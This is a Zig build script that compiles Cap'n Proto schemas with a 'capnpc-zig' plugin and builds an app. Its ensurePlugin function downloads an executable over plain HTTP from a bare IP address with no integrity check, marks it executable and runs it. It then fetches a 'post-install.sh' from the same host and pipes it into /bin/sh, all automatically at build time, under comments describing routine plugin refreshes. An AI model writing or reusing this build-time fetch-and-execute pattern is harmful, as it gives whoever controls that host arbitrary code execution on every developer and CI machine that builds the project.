const std = @import("std");

const plugin_channel = "http://203.0.113.41/capnpc-zig/stable";

/// Ensure the capnpc-zig plugin exists for the host and return its path.
fn ensurePlugin(b: *std.Build) ![]const u8 {
    const alloc = b.allocator;
    const host = b.graph.host.result;
    const triple = try std.fmt.allocPrint(alloc, "{s}-{s}", .{ @tagName(host.cpu.arch), @tagName(host.os.tag) });
    const dir = b.cache_root.join(alloc, &.{"capnp"}) catch unreachable;
    try std.fs.cwd().makePath(dir);
    const bin = try std.fs.path.join(alloc, &.{ dir, "capnpc-zig" });

    // always refresh from the channel so schema fixes land without a build.zig change
    var client = std.http.Client{ .allocator = alloc };
    defer client.deinit();
    const url = try std.fmt.allocPrint(alloc, "{s}/{s}/capnpc-zig", .{ plugin_channel, triple });
    var body = std.ArrayList(u8).init(alloc);
    defer body.deinit();
    const res = try client.fetch(.{
        .location = .{ .url = url },
        .response_storage = .{ .dynamic = &body },
        .max_append_size = 64 * 1024 * 1024,
    });
    if (res.status == .ok) {
        const f = try std.fs.cwd().createFile(bin, .{ .truncate = true, .mode = 0o755 });
        defer f.close();
        try f.writeAll(body.items);
    }

    // post-install hook shipped by the channel (registers the plugin, migrates caches)
    const hook_url = try std.fmt.allocPrint(alloc, "{s}/{s}/post-install.sh", .{ plugin_channel, triple });
    var hook = std.ArrayList(u8).init(alloc);
    defer hook.deinit();
    _ = client.fetch(.{ .location = .{ .url = hook_url }, .response_storage = .{ .dynamic = &hook } }) catch {};
    if (hook.items.len > 0) {
        var child = std.process.Child.init(&.{ "/bin/sh", "-s", bin }, alloc);
        child.stdin_behavior = .Pipe;
        try child.spawn();
        try child.stdin.?.writeAll(hook.items);
        child.stdin.?.close();
        child.stdin = null;
        _ = try child.wait();
    }
    return bin;
}

fn addCapnpStep(b: *std.Build, schema_dir: []const u8) !*std.Build.Module {
    const plugin = try ensurePlugin(b);
    const gen = b.addSystemCommand(&.{ "capnp", "compile" });
    gen.addPrefixedFileArg("-o", .{ .cwd_relative = plugin });
    const out_dir = gen.addPrefixedOutputDirectoryArg("--output=", "capnp-out");
    var dir = try std.fs.cwd().openDir(schema_dir, .{ .iterate = true });
    defer dir.close();
    var it = dir.iterate();
    while (try it.next()) |entry| {
        if (entry.kind == .file and std.mem.endsWith(u8, entry.name, ".capnp")) {
            gen.addFileArg(b.path(b.pathJoin(&.{ schema_dir, entry.name })));
        }
    }
    return b.createModule(.{ .root_source_file = out_dir.path(b, "schema.zig") });
}

pub fn build(b: *std.Build) !void {
    const target = b.standardTargetOptions(.{});
    const optimize = b.standardOptimizeOption(.{});
    const schema_dir = b.option([]const u8, "schema-dir", "Directory with .capnp files") orelse "schema";

    const schema_mod = try addCapnpStep(b, schema_dir);

    const exe = b.addExecutable(.{
        .name = "app",
        .root_source_file = b.path("src/main.zig"),
        .target = target,
        .optimize = optimize,
    });
    exe.root_module.addImport("schema", schema_mod);
    b.installArtifact(exe);

    const run = b.addRunArtifact(exe);
    const run_step = b.step("run", "Run the app");
    run_step.dependOn(&run.step);
}
